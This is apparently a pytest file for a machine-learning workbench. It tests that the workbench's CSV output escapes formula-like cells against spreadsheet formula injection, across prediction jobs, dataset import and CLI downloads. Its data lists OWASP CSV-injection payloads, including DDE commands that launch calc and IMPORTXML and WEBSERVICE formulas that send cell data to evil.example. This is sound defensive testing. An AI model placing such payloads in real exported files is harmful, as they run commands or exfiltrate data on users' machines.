"""Issue 38, item 1: no text cell of a CSV the workbench writes is a formula a spreadsheet would run.

The rule and its inverse (``storage.cells``) are checked on every short string over the characters that
matter and on random ones; then OWASP's payloads go through a prediction job (CSV and TSV in; CSV, JSON
Lines and Parquet out), its CSV is read back by the workbench as a prediction input and as a dataset, and
once through a tiny model really trained on labels that are payloads.
"""
from __future__ import annotations

import csv
import io
import itertools
import json
import random
from pathlib import Path

import pytest

from jobs.predict.job import predict_file
from jobs.predict.spec import PredictSpec
from jobs.progress import RecordingReporter
from storage.cells import escape_cell, formula_like, unescape_cell, unescape_row
from storage.datasets.columns import ColumnMapping
from storage.datasets.lookup import dataset_files

# OWASP's CSV-injection examples (owasp.org/www-community/attacks/CSV_Injection) and the usual variants.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: please click for further information")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+1+1",
    "-1+1",
    "@A1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/")',
    " =1+2",  # after blanks a spreadsheet that trims them sees a formula
    "\n=1+2",
    "\u00a0@SUM(1+1)",
]
# Texts that are not attacks but start the same way, or with the escape's own quote.
ORDINARY = ["-5 degrees outside", "@user hi", "+1 for this", "'=1+2", "''@x", "' =1", "'quoted'", "it's fine",
            "plain text", "", "'", "a=b", " leading blank", "\t", "-"]


# ------------------------------------------------------------------ the rule

def test_owasp_payloads_are_escaped_and_come_back():
    for payload in OWASP_PAYLOADS:
        assert formula_like(payload), payload
        escaped = escape_cell(payload)
        assert escaped == "'" + payload and not formula_like(escaped)
        assert unescape_cell(escaped) == payload


def test_ordinary_texts_and_numbers():
    assert escape_cell("-5 degrees outside") == "'-5 degrees outside" and escape_cell("@user hi") == "'@user hi"
    assert escape_cell("'=1+2") == "''=1+2" and escape_cell("''@x") == "'''@x" and escape_cell("' =1") == "'' =1"
    for same in ("'quoted'", "it's fine", "plain text", "", "'", "a=b", " leading blank", "' hi"):
        assert escape_cell(same) == same and unescape_cell(same) == same
    # Only text is escaped: the numbers a job writes (a negative score) stay numbers.
    for value in (-0.5, -3, 0, 2.5e-7, True, False, None):
        assert escape_cell(value) is value


def _roundtrip(texts: list[str]) -> None:
    for text in texts:
        escaped = escape_cell(text)
        assert unescape_cell(escaped) == text, repr(text)
        assert not formula_like(escaped), repr(text)
        assert escaped in (text, "'" + text), repr(text)
        assert (escaped != text) == formula_like(text.lstrip("'")), repr(text)


def test_unescape_inverts_escape_on_every_short_string():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", " ", "\u00a0", "a", "1"]
    texts = ["".join(chars) for n in range(6) for chars in itertools.product(alphabet, repeat=n)]
    assert len(texts) == sum(12 ** n for n in range(6))  # 271,453 strings
    _roundtrip(texts)


def test_unescape_inverts_escape_on_random_strings():
    rng = random.Random(38)
    pool = "'=+-@\t\r\n \"|,;!()" + "abcXYZ019" + "\u00a0\u2003\uff1d\u00e9\U0001f600"
    texts = ["".join(rng.choice(pool) for _ in range(rng.randint(0, 24))) for _ in range(50_000)]
    texts += ["".join(chr(rng.randint(1, 0x2FFF)) for _ in range(rng.randint(0, 12))) for _ in range(20_000)]
    texts += [p + tail for p in OWASP_PAYLOADS + ORDINARY for tail in ("", "x", "'", "=")]
    _roundtrip(texts)
    # and through a CSV file and back, as the writer and the readers do it
    buffer = io.StringIO()
    csv.writer(buffer).writerows([escape_cell(t)] for t in texts)
    assert [unescape_row(row)[0] if row else "" for row in csv.reader(io.StringIO(buffer.getvalue()))] == texts


def test_the_readers_take_a_quote_before_a_formula_as_the_escape(tmp_path):
    """Any CSV or TSV the workbench reads (a prediction input, a training file): ``'=1+2`` is the escaped
    ``=1+2``, as the workbench and other exporters write it; a quote before anything else is kept."""
    from jobs.predict.inputs import iter_rows, open_input
    from storage.datasets.problems import ProblemLog
    from storage.datasets.read_classification import read_delimited

    texts = ["'=1+2", "'quoted'", "''@x", "'-5 degrees", "it's"]
    read = ["=1+2", "'quoted'", "'@x", "-5 degrees", "it's"]
    path = tmp_path / "in.csv"
    path.write_text("'@text,label\n" + "".join(f"{t},'+pos\n" for t in texts), encoding="utf-8")
    spec = PredictSpec(kind="predict", run_id=1, input_path=str(path), input_name=path.name)
    rows = list(iter_rows(open_input(spec, "text-classification")))
    assert [r.features["text"] for r in rows] == read and rows[0].columns == {"@text": "=1+2", "label": "+pos"}
    records = list(read_delimited(io.StringIO(path.read_text("utf-8")), "in.csv", ColumnMapping(text="@text"),
                                  ProblemLog(), ","))
    assert [(r.data["text"], r.data["label"]) for r in records] == [(t, "+pos") for t in read]
    # the check before a job is queued names the columns as the job will
    from workbench.services.prediction_inputs import check_input

    assert check_input(path, "text-classification", name="in.csv", input_format=None, columns={"text": "@text"},
                       max_bytes=10**6)[0] == "csv"


# ------------------------------------------------------------------ a prediction job's outputs

class Echo:
    """A classifier whose label is the row's own text and whose score is negative: both reach every column."""

    task, labels, batch_size = "text-classification", ("a", "b"), 4

    def predict(self, rows):
        return [{"label": r["text"], "score": -0.5, "scores": {"a": -1.25, "b": 2.0}} for r in rows]


def _number(cell: str) -> bool:
    """A cell the job wrote as a number (a negative score starts with "-" but is no formula)."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


TEXTS = OWASP_PAYLOADS + [t for t in ORDINARY if t.strip()]
TAGS = ["=HYPERLINK(\"http://evil.example\")", "-neg", "+pos", "@mention", "plain"]


def _input(tmp_path: Path, fmt: str) -> tuple[Path, list[dict]]:
    """id, text and a column named like a formula, whose cells are payloads too; with the rows the workbench
    reads from it. JSON Lines keeps every text as it is; in a CSV or TSV cell a leading ``'`` before a
    formula-like text is read as the escape (``"'=1+2"`` is ``=1+2``), and TSV has no tab or line break in a cell."""
    rows = [{"id": str(i), "text": text, "@tag": TAGS[i % len(TAGS)]} for i, text in enumerate(TEXTS)]
    path = tmp_path / f"reviews.{fmt}"
    if fmt == "jsonl":
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
        return path, rows
    if fmt == "tsv":
        rows = [r for r in rows if not any(c in r["text"] for c in "\t\r\n")]
    table = [list(rows[0])] + [list(r.values()) for r in rows]
    if fmt == "tsv":
        path.write_text("".join("\t".join(line) + "\n" for line in table), encoding="utf-8")
    else:
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(table)
    return path, [{k: unescape_cell(v) for k, v in r.items()} for r in rows]


def _predict(path: Path, out: Path, fmt: str, predictor=None) -> Path:
    spec = PredictSpec(kind="predict", run_id=1, input_path=str(path), input_name=path.name, output_format=fmt,
                       chunk_rows=7)
    return Path(predict_file(spec, predictor or Echo(), out, RecordingReporter())["output"])


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "tsv"])
def test_a_prediction_csv_has_no_formula_and_jsonl_and_parquet_stay_exact(tmp_path, fmt):
    source, expected = _input(tmp_path, fmt)
    assert len(expected) >= 20
    written = _predict(source, tmp_path / "csv", "csv")
    with written.open(newline="", encoding="utf-8") as handle:
        raw = list(csv.reader(handle))
    header, body = raw[0], raw[1:]
    assert header == ["id", "text", "'@tag", "predicted_label", "score", "prob_a", "prob_b", "truncated"]
    assert not [cell for row in raw for cell in row if formula_like(cell) and not _number(cell)]
    for row, want in zip(body, expected):
        cells = dict(zip(unescape_row(header), row))
        for column in ("text", "@tag"):
            assert cells[column] == escape_cell(want[column])
        assert cells["predicted_label"] == escape_cell(want["text"])
        # numbers the job wrote are numbers, not escaped text
        assert (cells["score"], cells["prob_a"], cells["prob_b"]) == ("-0.5", "-1.25", "2.0")
    assert [dict(zip(unescape_row(header), unescape_row(row))) for row in body] == [
        {**want, "predicted_label": want["text"], "score": "-0.5", "prob_a": "-1.25", "prob_b": "2.0",
         "truncated": "false"} for want in expected]

    jsonl = [json.loads(line) for line in _predict(source, tmp_path / "jsonl", "jsonl").read_text("utf-8").splitlines()]
    assert [(r["text"], r["@tag"], r["predicted_label"], r["score"]) for r in jsonl] == [
        (w["text"], w["@tag"], w["text"], -0.5) for w in expected]

    import pyarrow.parquet as pq

    table = pq.read_table(_predict(source, tmp_path / "parquet", "parquet"))
    assert str(table.schema.field("score").type) == "double" and str(table.schema.field("text").type) == "string"
    assert [(r["text"], r["@tag"], r["predicted_label"], r["prob_a"]) for r in table.to_pylist()] == [
        (w["text"], w["@tag"], w["text"], -1.25) for w in expected]


def test_the_workbench_reads_its_own_csv_back_exactly(tmp_path, wb):
    from workbench.services import datasets

    source, expected = _input(tmp_path, "jsonl")  # every text as it is, "'=1+2" and "\t=1+2" included
    first = _predict(source, tmp_path / "first", "csv")
    # ... as the input of another prediction job: the texts the model sees and the columns it copies are the
    # originals (``predicted_label`` comes back as ``predicted_label_input``).
    seen: list[str] = []

    class Recording(Echo):
        def predict(self, rows):
            seen.extend(r["text"] for r in rows)
            return super().predict(rows)

    again = [json.loads(line) for line in _predict(first, tmp_path / "again", "jsonl", Recording())
             .read_text("utf-8").splitlines()]
    assert sorted(seen) == sorted(w["text"] for w in expected)  # batches go by length
    assert [(r["text"], r["@tag"], r["predicted_label_input"]) for r in again] == [
        (w["text"], w["@tag"], w["text"]) for w in expected]
    # ... and as a training file in the Data tab, its predictions as the labels.
    summary = datasets.import_dataset(wb, first, "text-classification", name="pseudo-labelled",
                                      columns=ColumnMapping(text="text", label="@tag"), validation_fraction=0)
    train, _ = dataset_files(wb.db, summary.id)
    records = [json.loads(line) for line in train.read_text("utf-8").splitlines()]
    assert sorted((r["text"], r["label"]) for r in records) == sorted((w["text"], w["@tag"]) for w in expected)


@pytest.mark.e2e
def test_a_real_model_trained_on_payload_labels_writes_them_escaped(tmp_path):
    """A tiny BERT really trained on labels that are formulas: its ``predicted_label`` cells are escaped,
    its probabilities are numbers."""
    from jobs.training.engine import run_training
    from jobs.predict.job import run_prediction
    from jobs.predict.spec import ModelRef
    from jobs.specs.run import DataSpec, RunSpec, TrainSpec
    from tests.tiny_models import classification_records, tiny_bert, write_jsonl

    labels = {"pos": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "neg": "-2+3+cmd|' /C calc'!A0"}

    def relabelled(records):
        return [{**r, "label": labels[r["label"]]} for r in records]

    train = relabelled(classification_records(48))
    assert {r["label"] for r in train} == set(labels.values())
    spec = RunSpec(task="text-classification", model=str(tiny_bert(tmp_path / "tiny")),
                   data=DataSpec(train_path=write_jsonl(tmp_path / "train.jsonl", train).as_posix(),
                                 validation_path=write_jsonl(tmp_path / "val.jsonl",
                                                             relabelled(classification_records(8, 1))).as_posix()),
                   train=TrainSpec(epochs=1, learning_rate=1e-3, calibrate="off"))
    run_training(spec, tmp_path / "run", RecordingReporter())
    hp = json.loads((tmp_path / "run" / "metrics.json").read_text())["hyperparameters"]
    model = ModelRef(run_id=1, task="text-classification", model_dir=str(tmp_path / "run" / "model"),
                     hyperparameters=hp)
    source, expected = _input(tmp_path, "jsonl")
    job = PredictSpec(kind="predict", run_id=1, input_path=str(source), input_name=source.name, output_format="csv")
    output = Path(run_prediction(job, model, tmp_path / "out", RecordingReporter(), device="cpu")["output"])
    with output.open(newline="", encoding="utf-8") as handle:
        raw = list(csv.reader(handle))
    assert not [cell for row in raw for cell in row if formula_like(cell) and not _number(cell)]
    header = unescape_row(raw[0])
    rows = [dict(zip(header, unescape_row(row))) for row in raw[1:]]
    assert {r["predicted_label"] for r in rows} <= set(labels.values())
    assert all(cell.startswith("'") for cell in (dict(zip(header, row))["predicted_label"] for row in raw[1:]))
    assert [r["text"] for r in rows] == [w["text"] for w in expected]
    for row in rows:
        probabilities = [float(row[f"prob_{name}"]) for name in sorted(labels.values())]
        assert abs(sum(probabilities) - 1) < 1e-4 and float(row["score"]) == max(probabilities)


def test_the_cli_output_and_the_ui_download_are_escaped(cli, wb, tmp_path, monkeypatch):
    """``workbench predict --output`` copies the job's CSV and the Predict tab offers the same file: both escaped."""
    from tests.predict_support import JobRunner, Jobs, trained_run
    from workbench.services import workers as workers_service
    from workbench.ui import predict_panel

    real = workers_service.start_embedded_worker  # the seam the CLI's --wait starts a worker through
    monkeypatch.setattr(workers_service, "start_embedded_worker",
                        lambda wb_, runner=None, **kw: real(wb_, JobRunner(wb_, Jobs()), **kw))
    source, expected = _input(tmp_path, "jsonl")
    target = tmp_path / "out" / "labelled.csv"
    code, out, err = cli("predict", str(trained_run(wb)), "--input", str(source), "--output", str(target), "--json")
    assert code == 0, err
    downloads = predict_panel.job_files(wb, json.loads(out)["id"])
    assert [Path(p).name for p in downloads] == ["predictions.csv"]
    for path in (target, Path(downloads[0])):
        with path.open(newline="", encoding="utf-8") as handle:
            raw = list(csv.reader(handle))
        assert not [cell for row in raw for cell in row if formula_like(cell) and not _number(cell)]
        header = unescape_row(raw[0])
        assert [dict(zip(header, unescape_row(row)))["text"] for row in raw[1:]] == [w["text"] for w in expected]
